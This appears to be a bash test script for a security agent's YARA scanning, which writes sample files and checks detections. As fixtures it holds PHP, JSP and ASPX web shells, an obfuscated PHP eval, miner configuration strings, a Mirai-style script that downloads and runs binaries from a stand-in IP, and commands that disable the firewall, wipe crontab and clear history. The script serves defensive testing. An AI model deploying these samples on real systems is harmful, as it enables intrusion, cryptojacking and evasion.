#!/usr/bin/env bash
# The agent with its default YARA settings (no rules folder on this machine): the rules built
# into it must find a test file made here for each rule, saved into a user's Downloads or /tmp-
# like folder; a known-bad hash from the hash list is found; ordinary files raise nothing. One
# 64 MB download with a miner's strings at its end is scanned in blocks.
set -u
py=/usr/bin/python3
tools=$(dirname "$0")/../tools
home=$PWD/home/alice
mkdir -p $home/Downloads $PWD/tmp state
printf '# one known-bad file\n%s\nnot-a-hash\n' \
  "$(head -c 4096 /dev/zero | tr '\0' 'K' | sha256sum | cut -d' ' -f1)" > state/threat-hashes.txt
printf 'yara:\n  paths: ["%s/home/*", "%s/tmp"]\n' "$PWD" "$PWD" > agent.yaml
mimamori-agent -c agent.yaml --eve eve.json --run-for $(( 12 * ${MIMAMORI_TIMEOUT_SCALE:-1} )) --set agent.state_dir=$PWD/state \
  --set auth.enabled=false --set fim.enabled=false --set persistence.enabled=false \
  --set ransomware.enabled=false --set process.enabled=false --set network.enabled=false \
  --set inventory.enabled=false --set behaviour.enabled=false --set yara.rules_dir=$PWD/no-such-folder \
  --set agent.poll_interval_ms=200 2>agent.log &
agent=$!
for _ in $(seq 100); do grep -q "agent running" agent.log && break; sleep 0.1; done
act() { echo "$1 $2 $(date +%s.%N)" >> acts.txt; }
elf_with() {  # a real ELF program with these strings appended
  local out=$1
  shift
  cp /usr/bin/true "$out"
  printf '%s\0' "$@" >> "$out"
}
d=$home/Downloads
act eicar 9100401
head='X5O!P%@AP[4\PZX54(P^)7CC)7}$'
printf '%s%s' "$head" 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' > $d/eicar.com
echo "<?php @eval(\$_POST['cmd']); ?>" > $PWD/tmp/shell.php
echo "<?php eval(gzinflate(base64_decode('80jNycnXUSjPL8pJUQQA'))); ?>" > $d/wp-cache.php
echo '<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>' > $d/cmd.jsp
echo '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>' \
  > $d/up.aspx
elf_with $d/kworkerds "stratum+tcp://pool.example.net:3333" "--donate-level=1" "randomx" \
  "cryptonight" "XMRig/6.21"
cat > $PWD/tmp/config.json <<'J'
{"autosave": true, "cpu": {"enabled": true},
 "pools": [{"url": "pool.example.net:3333", "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "algo": "rx/0"}]}
J
cat > $PWD/tmp/bins.sh <<'S'
#!/bin/sh
cd /tmp || cd /var/run || cd /dev/shm
wget http://198.51.100.9/bins/sora.x86; chmod 777 sora.x86; ./sora.x86 ssh
wget http://198.51.100.9/bins/sora.arm7; chmod 777 sora.arm7; ./sora.arm7 ssh
wget http://198.51.100.9/bins/sora.mips; chmod 777 sora.mips; ./sora.mips ssh
S
cat > $PWD/tmp/init.sh <<'S'
#!/bin/sh
pkill -9 xmrig
chattr -i /etc/crontab
crontab -r
ufw disable
history -c
S
elf_with $d/dvrHelper "/bin/busybox MIRAI" "TSource Engine Query" "/proc/net/tcp" "/dev/watchdog"
head -c 4096 /dev/zero | tr '\0' 'K' > $d/known.bin
# Ordinary files: a PHP page that escapes its input, an install script, notes, a program.
echo "<?php echo htmlspecialchars(\$_GET['q']); ?>" > $d/search.php
printf '#!/bin/sh\ncurl -fsSLo tool.tgz https://example.org/tool.tgz\ntar xzf tool.tgz\n' > $d/install.sh
echo "meeting notes: deploy on Friday" > $d/notes.txt
cp /usr/bin/true $d/true-copy
sleep 3
# A 64 MB download: a program, zeros, and a miner's strings in its last block.
act big 9100401
$py - "$d/big.bin.part" <<'PY'
import sys
tail = b"\0".join([b"stratum+tcp://pool.example.net:3333", b"--donate-level=1", b"randomx",
                   b"cryptonight"]) + b"\0"
head = open("/usr/bin/true", "rb").read()
with open(sys.argv[1], "wb") as f:
    f.write(head)
    f.write(bytes(64 * 1024 * 1024 - len(head) - len(tail)))
    f.write(tail)
PY
mv $d/big.bin.part $d/big.bin
wait $agent
cat agent.log >&2
$py "$tools/within.py" eve.json acts.txt
